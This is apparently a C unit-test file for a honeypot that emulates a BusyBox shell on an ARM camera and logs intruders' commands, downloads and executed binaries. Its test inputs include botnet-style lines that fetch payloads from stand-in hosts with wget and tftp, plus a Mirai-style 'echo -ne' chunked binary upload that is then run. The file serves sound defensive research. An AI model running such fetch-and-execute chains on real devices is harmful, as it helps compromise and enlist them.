/*
 * Unit tests of trap/exec.c and the applets: command lines run against a
 * small persona made in a temporary folder print BusyBox 1.35's words byte
 * for byte and leave the status ash leaves (a table of lines); the hooks
 * see each command's argv, each download's URL and file, and each run of a
 * session file; echo -ne chains rebuild a binary byte for byte; a binary
 * of the persona's CPU runs silently and another CPU's is "not found"; an
 * open quote asks for more; exit ends the session but only leaves a nested
 * sh; output past max_output is cut.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "exec.h"
#include "fs.h"
#include "persona.h"

static char dir[] = "/tmp/mamori-test-trap-exec.XXXXXX";
static struct trap_persona *persona;

static void put(const char *rel, const char *text)
{
	char p[512];
	FILE *f;

	assert_true((size_t)snprintf(p, sizeof p, "%s/tp/%s", dir, rel) < sizeof p);
	f = fopen(p, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void mk(const char *rel)
{
	char p[512];

	assert_true((size_t)snprintf(p, sizeof p, "%s/tp/%s", dir, rel) < sizeof p);
	assert_int_equal(mkdir(p, 0755), 0);
}

static int setup(void **state)
{
	char err[256];

	(void)state;
	if (!mkdtemp(dir))
		return -1;
	mk("");
	mk("root");
	mk("root/etc");
	mk("root/root");
	mk("root/tmp");
	mk("root/bin");
	mk("root/proc");
	put("persona.conf",
	    "[persona]\nname = tp\ndescription = a camera\n"
	    "[telnet]\nbanner = x\nlogin_prompt = login:\npassword_prompt = Password:\n"
	    "login_failed = Login incorrect\nmotd = hi\nshell_prompt = \\u@\\h:\\w\\$\n"
	    "login_delay_ms = 0\n"
	    "[system]\nhostname = cam\nuname_s = Linux\nuname_r = 3.10.14\n"
	    "uname_v = #2 Tue Jan 2 10:00:00 CST 2018\nuname_m = armv7l\ncpu = arm\n"
	    "elf_flags = 0x5000200\nbusybox_size = 64k\n"
	    "busybox_version = v1.20.2 (2017-05-04 10:00:00 CST)\n"
	    "applets = sh cat cp mv rm mkdir chmod ls head tail wc grep dd echo printf ps kill "
	    "uname id whoami hostname true false sleep wget tftp ftpget busybox\n"
	    "applet_dirs = wget:usr/bin tftp:usr/bin\nboot_age = 1000\nusers = root=0\n"
	    "bogomips = 100.00\n");
	put("ps.txt", "  PID USER       VSZ STAT COMMAND\n    1 root      1540 S    init\n");
	put("root/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n");
	put("root/etc/group", "root:x:0:\n");
	put("root/etc/motd", "one\ntwo\nthree\n");
	if (trap_persona_load(dir, "tp", 1, &persona, err, sizeof err) != 0) {
		fprintf(stderr, "persona: %s\n", err);
		return -1;
	}
	return 0;
}

static int teardown(void **state)
{
	char cmd[600];

	(void)state;
	trap_persona_free(persona);
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
	return system(cmd) == 0 ? 0 : -1;
}

/* What the hooks saw. */
struct seen {
	char commands[4096];
	char downloads[1024];
	char runs[512];
};

static void on_command(void *arg, int argc, char **argv)
{
	struct seen *s = arg;
	size_t n = strlen(s->commands);
	int i;

	for (i = 0; i < argc; i++)
		n += (size_t)snprintf(s->commands + n, sizeof s->commands - n, "%s%s",
				      i ? " " : "", argv[i]);
	snprintf(s->commands + n, sizeof s->commands - n, "|");
}

static void on_download(void *arg, const char *applet, const char *url, const char *out)
{
	struct seen *s = arg;
	size_t n = strlen(s->downloads);

	snprintf(s->downloads + n, sizeof s->downloads - n, "%s %s %s|", applet, url, out);
}

static void on_run(void *arg, const char *path, const uint8_t *data, size_t len, int argc,
		   char **argv)
{
	struct seen *s = arg;
	size_t n = strlen(s->runs);

	(void)data, (void)argv;
	snprintf(s->runs + n, sizeof s->runs - n, "%s %zu %d|", path, len, argc);
}

struct sess {
	struct trap_fs *fs;
	struct trap_exec *x;
	struct seen seen;
	struct mm_buf out;
};

static void sess_open(struct sess *s, size_t max_output)
{
	struct trap_exec_opts o;

	memset(s, 0, sizeof *s);
	assert_int_equal(trap_fs_new(persona->base, 1 << 20, &s->fs), 0);
	memset(&o, 0, sizeof o);
	o.persona = persona;
	o.fs = s->fs;
	o.user = "root";
	o.hooks.command = on_command;
	o.hooks.download = on_download;
	o.hooks.run = on_run;
	o.hooks.arg = &s->seen;
	o.max_output = max_output;
	assert_int_equal(trap_exec_new(&o, &s->x), 0);
	mm_buf_init(&s->out, 4 << 20);
}

static void sess_close(struct sess *s)
{
	trap_exec_free(s->x);
	trap_fs_free(s->fs);
	mm_buf_free(&s->out);
}

/* Runs the lines (separated by \n) and returns the last line's result. */
static int run(struct sess *s, const char *lines)
{
	const char *p = lines;
	int rc = 0;

	mm_buf_reset(&s->out);
	while (*p) {
		size_t n = strcspn(p, "\n");

		rc = trap_exec_line(s->x, p, n, &s->out);
		p += n;
		if (*p == '\n')
			p++;
	}
	return rc;
}

static const char *out_text(const struct sess *s)
{
	return s->out.data ? s->out.data : "";
}

struct row {
	const char *lines;
	const char *out;
	int status;
};

static const struct row rows[] = {
	/* Quoting, lists and escapes as ash's builtin echo and printf. */
	{ "echo 'a  b' \"c $HOME\" d\\ e", "a  b c /root d e\n", 0 },
	{ "echo -n a; echo b", "ab\n", 0 },
	{ "echo -x -n a", "-x -n a\n", 0 },
	{ "echo -e 'a\\x41\\0101\\101\\tb\\c' x; echo", "aAAA\tb\n", 0 },
	{ "echo -ne '\\x68\\x69\\n'", "hi\n", 0 },
	{ "printf '%s-%d-%x-%o-%c-%b\\n' ab 42 255 8 zed 'q\\tw'", "ab-42-ff-10-z-q\tw\n", 0 },
	{ "printf '%5s|%-3d|%03x|\\n' ab 7 10", "   ab|7  |00a|\n", 0 },
	{ "printf '%s\\n' a b c", "a\nb\nc\n", 0 },
	{ "printf '%d\\n' abc", "sh: invalid number 'abc'\n0\n", 1 },
	{ "printf", "sh: usage: printf FORMAT [ARGUMENT...]\n", 2 },
	{ "true && echo y || echo n", "y\n", 0 },
	{ "false && echo y || echo n", "n\n", 0 },
	{ "false; echo $?", "1\n", 0 },
	{ "! true; echo $?", "1\n", 0 },
	{ "A=1; B=\"$A 2\"; echo $B; export C=3; echo $C", "1 2\n3\n", 0 },
	{ "echo $(echo sub) `echo tick`", "sub tick\n", 0 },
	/* Not found, applets the persona lacks, busybox APPLET. */
	{ "foo", "-sh: foo: not found\n", 127 },
	{ "enable", "-sh: enable: not found\n", 127 },
	{ "od -c", "-sh: od: not found\n", 127 },
	{ "busybox FOO", "FOO: applet not found\n", 127 },
	{ "/bin/busybox ECCHI", "ECCHI: applet not found\n", 127 },
	{ "/bin/busybox echo hi", "hi\n", 0 },
	{ "busybox --list | head -n 2", "busybox\ncat\n", 0 },
	{ "./nothere", "-sh: ./nothere: not found\n", 127 },
	/* Files. */
	{ "cat x", "cat: can't open 'x': No such file or directory\n", 1 },
	{ "rm x", "rm: can't remove 'x': No such file or directory\n", 1 },
	{ "rm -f x", "", 0 },
	{ "rm /tmp", "rm: '/tmp' is a directory\n", 1 },
	{ "mkdir /tmp", "mkdir: can't create directory '/tmp': File exists\n", 1 },
	{ "mkdir /a/b/c", "mkdir: can't create directory '/a/b/c': No such file or directory\n", 1 },
	{ "mkdir -p /tmp/a/b && ls /tmp/a", "b\n", 0 },
	{ "cp nofile x", "cp: can't stat 'nofile': No such file or directory\n", 1 },
	{ "cp /bin /tmp/x", "cp: omitting directory '/bin'\n", 1 },
	{ "chmod 777 nofile", "chmod: nofile: No such file or directory\n", 1 },
	{ "chmod zz /tmp", "chmod: invalid mode 'zz'\n", 1 },
	{ "mv a b", "mv: can't rename 'a': No such file or directory\n", 1 },
	{ "echo x > /tmp/f; cat /tmp/f /tmp/nof /tmp/f",
	  "x\ncat: can't open '/tmp/nof': No such file or directory\nx\n", 1 },
	{ "echo a > /tmp/g; echo b >> /tmp/g; cat < /tmp/g", "a\nb\n", 0 },
	{ "cp /etc/motd /tmp/m; mv /tmp/m /tmp/n; cat /tmp/n | wc -l", "3\n", 0 },
	{ "head -n 2 /etc/motd; tail -n 1 /etc/motd", "one\ntwo\nthree\n", 0 },
	{ "wc /etc/motd", "        3         3        14 /etc/motd\n", 0 },
	{ "grep t /etc/motd; grep -c o /etc/motd; grep -v o /etc/motd", "two\nthree\n2\nthree\n",
	  0 },
	{ "grep zz /etc/motd", "", 1 },
	{ "cat /etc/motd | grep -n e", "1:one\n3:three\n", 0 },
	{ "dd if=/etc/motd of=/tmp/p bs=1 count=5; cat /tmp/p; echo",
	  "5+0 records in\n5+0 records out\none\nt\n", 0 },
	{ "cat < nofile", "-sh: can't open nofile: no such file\n", 1 },
	{ "echo a > /nonexist/x", "-sh: can't create /nonexist/x: nonexistent directory\n", 1 },
	{ "cat nofile 2>/dev/null; echo $?", "1\n", 0 },
	{ "cat nofile 2>&1 | wc -l", "1\n", 0 },
	{ "cat nofile >/dev/null 2>&1", "", 1 },
	{ "echo x 2>&1 >/dev/null", "", 0 },
	{ "ls /etc/motd /nofile", "ls: /nofile: No such file or directory\n/etc/motd\n", 1 },
	{ "cd /nonexist", "-sh: cd: can't cd to /nonexist: No such file or directory\n", 2 },
	{ "cd /tmp; pwd; cd ..; pwd; cd; pwd", "/tmp\n/\n/root\n", 0 },
	{ "echo /etc/mo*", "/etc/motd\n", 0 },
	{ "echo /etc/zz*", "/etc/zz*\n", 0 },
	{ "echo '/etc/mo*'", "/etc/mo*\n", 0 },
	/* System. */
	{ "uname; uname -m; uname -a",
	  "Linux\narmv7l\nLinux cam 3.10.14 #2 Tue Jan 2 10:00:00 CST 2018 armv7l GNU/Linux\n", 0 },
	{ "id; whoami; hostname", "uid=0(root) gid=0(root)\nroot\ncam\n", 0 },
	{ "kill", "sh: you need to specify whom to kill\n", 1 },
	{ "kill -9 abc", "sh: invalid number 'abc'\n", 1 },
	{ "kill 1", "", 0 },
	{ "kill 31999", "sh: can't kill pid 31999: No such process\n", 1 },
	{ "sleep 1", "", 0 },
	{ "sh -c 'echo in; exit 3'; echo $?", "in\n3\n", 0 },
	{ "sh nofile", "sh: can't open 'nofile': No such file or directory\n", 2 },
	{ "echo 'echo from script' > /tmp/s.sh; sh /tmp/s.sh", "from script\n", 0 },
	{ "echo '#!/bin/sh' > /tmp/r; echo 'echo run' >> /tmp/r; chmod 755 /tmp/r; /tmp/r",
	  "run\n", 0 },
	{ "echo 'echo run' > /tmp/r; chmod 755 /tmp/r; /tmp/r", "-sh: /tmp/r: not found\n", 127 },
	{ "echo 'echo run' > /tmp/r; /tmp/r", "-sh: /tmp/r: Permission denied\n", 126 },
	{ "echo a |", NULL, 0 },
	{ "echo )", "-sh: syntax error: unexpected \")\"\n", 2 },
	/* Downloads fail as on a device cut off from the net. */
	{ "wget http://1.2.3.4:8080/bins/x.arm",
	  "Connecting to 1.2.3.4:8080 (1.2.3.4:8080)\n"
	  "wget: can't connect to remote host (1.2.3.4): Connection refused\n", 1 },
	{ "wget http://evil.example/x", "wget: bad address 'evil.example'\n", 1 },
	{ "tftp -g -r x 1.2.3.4", "tftp: timeout\n", 1 },
	{ "tftp -g -r x evil.example", "tftp: bad address 'evil.example'\n", 1 },
	{ "ftpget 1.2.3.4 a b", "ftpget: can't connect to remote host (1.2.3.4): Connection refused\n",
	  1 },
};

static void test_table(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		struct sess s;
		int rc;

		sess_open(&s, 0);
		rc = run(&s, rows[i].lines);
		if (!rows[i].out) {
			/* A line that needs more: nothing runs yet. */
			assert_int_equal(rc, TRAP_EXEC_MORE);
			assert_string_equal(out_text(&s), "");
			sess_close(&s);
			continue;
		}
		if (strcmp(out_text(&s), rows[i].out) != 0 ||
		    trap_exec_status(s.x) != rows[i].status)
			fprintf(stderr, "row %zu: %s\n got [%s] status %d\n", i, rows[i].lines,
				out_text(&s), trap_exec_status(s.x));
		assert_int_equal(rc, 0);
		assert_string_equal(out_text(&s), rows[i].out);
		assert_int_equal(trap_exec_status(s.x), rows[i].status);
		sess_close(&s);
	}
}

/* The usage texts are BusyBox 1.35's under the persona's banner. */
static void test_usage(void **state)
{
	struct sess s;

	(void)state;
	sess_open(&s, 0);
	run(&s, "tftp");
	assert_string_equal(out_text(&s),
			    "BusyBox v1.20.2 (2017-05-04 10:00:00 CST) multi-call binary.\n\n"
			    "Usage: tftp [OPTIONS] HOST [PORT]\n\n"
			    "Transfer a file from/to tftp server\n\n"
			    "\t-l FILE\tLocal FILE\n\t-r FILE\tRemote FILE\n\t-g\tGet file\n"
			    "\t-p\tPut file\n\t-b SIZE\tTransfer blocks in bytes\n");
	assert_int_equal(trap_exec_status(s.x), 1);
	run(&s, "wget");
	assert_non_null(strstr(out_text(&s), "multi-call binary.\n\nUsage: wget [-cqS] [--spider]"));
	run(&s, "busybox");
	assert_non_null(strstr(out_text(&s), "Currently defined functions:\n"
				"\tbusybox, cat, chmod, cp, dd, echo, false, ftpget, grep, head, hostname,\n"
				"\tid, kill, ls, mkdir, mv, printf, ps, rm, sh, sleep, tail, tftp, true,\n"
				"\tuname, wc, wget, whoami\n"));
	sess_close(&s);
}

/* Hooks: commands after expansion, downloads with their file, runs. */
static void test_hooks(void **state)
{
	struct sess s;

	(void)state;
	sess_open(&s, 0);
	run(&s, "cd /tmp; V=x.arm; wget http://1.2.3.4/bins/$V; tftp -g -l dvr -r bins/m.arm "
		"1.2.3.4; wget -O /tmp/o.sh http://5.6.7.8/a.sh; busybox ECCHI");
	assert_string_equal(s.seen.commands,
			    "cd /tmp|wget http://1.2.3.4/bins/x.arm|"
			    "tftp -g -l dvr -r bins/m.arm 1.2.3.4|"
			    "wget -O /tmp/o.sh http://5.6.7.8/a.sh|busybox ECCHI|");
	assert_string_equal(s.seen.downloads,
			    "wget http://1.2.3.4/bins/x.arm /tmp/x.arm|"
			    "tftp tftp://1.2.3.4/bins/m.arm /tmp/dvr|"
			    "wget http://5.6.7.8/a.sh /tmp/o.sh|");
	sess_close(&s);
}

/* Mirai's loader writes its binary with echo -ne chunks and runs it. */
static void test_echo_upload(void **state)
{
	struct sess s;
	uint8_t want[300];
	char line[2048];
	const uint8_t *got;
	size_t len, i, off;

	(void)state;
	sess_open(&s, 0);
	trap_fs_elf_header(&persona->elf, want);
	for (i = 64; i < sizeof want; i++)
		want[i] = (uint8_t)(i * 7 + 3);
	want[100] = 0;
	want[101] = '\'';
	want[102] = '\\';
	/* cp keeps busybox's mode (0755); a new file gets 0644. */
	run(&s, "cd /tmp; cp /bin/echo dvrHelper; ls -l dvrHelper | grep -c rwxr-xr-x; "
		"rm dvrHelper; >dvrHelper");
	assert_string_equal(out_text(&s), "1\n");
	for (off = 0; off < sizeof want; off += 128) {
		size_t n = sizeof want - off < 128 ? sizeof want - off : 128, k = 0;

		k += (size_t)snprintf(line, sizeof line, "echo -ne '");
		for (i = 0; i < n; i++)
			k += (size_t)snprintf(line + k, sizeof line - k, "\\x%02x", want[off + i]);
		snprintf(line + k, sizeof line - k, "' >> dvrHelper");
		assert_int_equal(run(&s, line), 0);
		assert_string_equal(out_text(&s), "");
	}
	got = trap_fs_own(s.fs, "/", "/tmp/dvrHelper", &len);
	assert_non_null(got);
	assert_int_equal(len, sizeof want);
	assert_memory_equal(got, want, sizeof want);
	/* Not executable yet, then the persona's CPU: silent, status 0. */
	run(&s, "./dvrHelper telnet.arm");
	assert_string_equal(out_text(&s), "-sh: ./dvrHelper: Permission denied\n");
	run(&s, "chmod 777 dvrHelper; ./dvrHelper telnet.arm; echo $?");
	assert_string_equal(out_text(&s), "0\n");
	assert_string_equal(s.seen.runs, "/tmp/dvrHelper 300 2|");
	/* Another CPU's binary: ash on the device says not found. */
	want[18] = 8; /* EM_MIPS */
	want[19] = 0;
	line[0] = '\0';
	{
		size_t k = (size_t)snprintf(line, sizeof line, "echo -ne '");

		for (i = 0; i < 64; i++)
			k += (size_t)snprintf(line + k, sizeof line - k, "\\x%02x", want[i]);
		snprintf(line + k, sizeof line - k, "' > m; chmod +x m; ./m");
	}
	run(&s, line);
	assert_string_equal(out_text(&s), "-sh: ./m: not found\n");
	assert_int_equal(trap_exec_status(s.x), 127);
	sess_close(&s);
}

static void test_more_exit_bounds(void **state)
{
	struct sess s;

	(void)state;
	sess_open(&s, 100);
	assert_int_equal(run(&s, "echo 'a"), TRAP_EXEC_MORE);
	assert_int_equal(run(&s, "b'"), 0);
	assert_string_equal(out_text(&s), "a\nb\n");
	/* sh then exit: back in the login shell. */
	run(&s, "sh");
	assert_non_null(strstr(out_text(&s), "BusyBox v1.20.2 (2017-05-04 10:00:00 CST) built-in "
				"shell (ash)\n"));
	assert_int_equal(run(&s, "exit"), 0);
	assert_int_equal(run(&s, "exit 4"), TRAP_EXEC_EXIT);
	assert_int_equal(trap_exec_status(s.x), 4);
	sess_close(&s);

	/* Output past max_output (100 bytes) is cut there. */
	sess_open(&s, 100);
	run(&s, "cat /bin/busybox");
	assert_int_equal(s.out.len, 100);
	assert_memory_equal(s.out.data, "\177ELF", 4);
	sess_close(&s);
}

static void test_prompt(void **state)
{
	struct sess s;

	(void)state;
	sess_open(&s, 0);
	assert_string_equal(trap_exec_prompt(s.x), "root@cam:~#");
	run(&s, "cd /tmp");
	assert_string_equal(trap_exec_prompt(s.x), "root@cam:/tmp#");
	assert_string_equal(trap_exec_cwd(s.x), "/tmp");
	sess_close(&s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_table),
		cmocka_unit_test(test_usage),
		cmocka_unit_test(test_hooks),
		cmocka_unit_test(test_echo_upload),
		cmocka_unit_test(test_more_exit_bounds),
		cmocka_unit_test(test_prompt),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
